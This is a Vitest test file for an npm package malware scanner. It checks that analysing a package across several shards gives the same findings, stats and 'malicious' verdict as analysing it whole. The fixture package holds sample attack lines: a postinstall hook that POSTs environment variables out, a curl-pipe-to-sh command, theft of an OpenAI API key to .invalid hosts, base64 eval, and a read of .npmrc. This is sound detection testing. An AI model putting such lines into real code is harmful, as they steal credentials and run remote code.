import { describe, expect, it } from 'vitest';
import { analyzePackage, DEFAULT_ENGINE_OPTIONS, shardPlan } from '../src/engine/run/analyze.js';
import { RULES } from '../heuristics/index.js';
import { scoreParts } from '../src/scan.js';
import type { Finding } from '../src/types.js';
import { packageFromFiles } from './helpers/analyze.js';
import { fromShared, toShared } from '../src/audit/shared-package.js';

/**
 * A large package is analyzed by several threads at once, each taking a share of the files past
 * the retention budget. Together the shards must find exactly what one whole analysis finds.
 */
const key = (f: Finding) => JSON.stringify([f.rule, f.severity, f.file, f.line, f.column, f.message, f.reach]);

function bigPackage(): Record<string, string> {
  const files: Record<string, string> = {
    'package.json': JSON.stringify({ name: 'big-fixture', version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node setup.js' } }),
    // Install-time code that reads a helper module: a flow across files, within the retained set.
    'setup.js': "const send = require('./lib/send.js');\nsend(JSON.stringify(process.env));",
    'lib/send.js': "const https = require('https');\nmodule.exports = (body) => { const r = https.request({ hostname: 'collect.invalid', method: 'POST' }); r.end(body); };",
    'index.js': "module.exports = require('./dist/a.js');",
  };
  // Bundles past the budget, each with something to find, padded to different sizes.
  for (let i = 0; i < 9; i++) {
    const pad = `/* ${'x'.repeat(2000 * (i + 1))} */\n`;
    files[`dist/chunk-${i}.js`] =
      pad +
      [
        "const cp = require('child_process');",
        `cp.exec('curl -s https://payload${i}.invalid/x.sh | sh');`,
        `const key = process.env.OPENAI_API_KEY; fetch('https://collect${i}.invalid/k', { method: 'POST', body: key });`,
        `eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());`,
      ].join('\n');
  }
  files['dist/a.js'] = "const fs = require('fs');\nmodule.exports = () => fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');";
  files['README.md'] = '# big fixture';
  return files;
}

describe('sharded analysis', () => {
  const options = { ...DEFAULT_ENGINE_OPTIONS, maxRetainedBytes: 4096 };

  for (const count of [2, 3]) {
    it(`${count} shards find what one whole analysis finds, and their stats add up to its stats`, () => {
      const whole = analyzePackage(packageFromFiles(bigPackage()), RULES, options);
      expect(whole.stats.streamedFiles).toBeGreaterThanOrEqual(8);
      const parts = Array.from({ length: count }, (_, index) => analyzePackage(packageFromFiles(bigPackage()), RULES, { ...options, shard: { index, count } }));
      // Every shard did a share of the streamed files: none was idle.
      for (const p of parts) expect(p.stats.streamedFiles).toBeGreaterThan(0);
      const merged = parts.flatMap((p) => p.findings);
      expect(merged.map(key).sort()).toEqual(whole.findings.map(key).sort());
      for (const k of ['codeFiles', 'codeBytes', 'parsedFiles', 'parsedBytes', 'skippedLexical', 'parseErrors', 'streamedFiles'] as const) {
        expect(parts.reduce((n, p) => n + p.stats[k], 0), k).toBe(whole.stats[k]);
      }
      // Scored together, the shards give the whole analysis's score, verdict and reasons.
      const asPart = (a: typeof whole) => ({ findings: a.findings, codeBytes: a.stats.codeBytes, analyzeMs: 0 });
      const together = scoreParts({ spec: 'big-fixture' }, parts.map(asPart));
      const alone = scoreParts({ spec: 'big-fixture' }, [asPart(whole)]);
      expect({ ...together, timing: undefined }).toEqual({ ...alone, timing: undefined });
      expect(together.verdict).toBe('malicious');
    });
  }

  it('plans retention by size in analysis order, and deals the rest out largest first to the least loaded shard', () => {
    const order = [
      { file: 'a', size: 10 },
      { file: 'skip', size: 5 },
      { file: 'b', size: 20 },
      { file: 'c', size: 50 },
      { file: 'd', size: 40 },
      { file: 'e', size: 30 },
      { file: 'f', size: 5 },
    ];
    const plan = shardPlan(order, 35, 2, (f) => f !== 'skip');
    expect([...plan.retained]).toEqual(['a', 'b', 'f']);
    // c (50) -> 0, d (40) -> 1, e (30) -> 1 (40 < 50): loads 50 and 70.
    expect(Object.fromEntries(plan.owner)).toEqual({ c: 0, d: 1, e: 1 });
    expect(shardPlan(order, 35, 1, (f) => f !== 'skip').owner.size).toBe(0);
  });

  it('a package laid out in shared memory reads back byte for byte, without copying file data', () => {
    const pkg = packageFromFiles({ 'index.js': 'module.exports = 1;', 'bin/x.js': '#!/usr/bin/env node\n', 'empty.txt': '' });
    pkg.files.set('big.bin', { path: 'big.bin', size: 10_000_000 }); // over the keep limit: no data
    const shared = toShared(pkg);
    const back = fromShared(structuredClone(shared));
    expect([...back.files.keys()]).toEqual([...pkg.files.keys()]);
    for (const [p, f] of pkg.files) {
      expect(back.files.get(p)!.size).toBe(f.size);
      expect(back.files.get(p)!.data?.toString('utf8')).toBe(f.data?.toString('utf8'));
    }
    expect(back.files.get('index.js')!.data!.buffer).toBeInstanceOf(SharedArrayBuffer);
    expect(back.manifest).toEqual(pkg.manifest);
  });
});
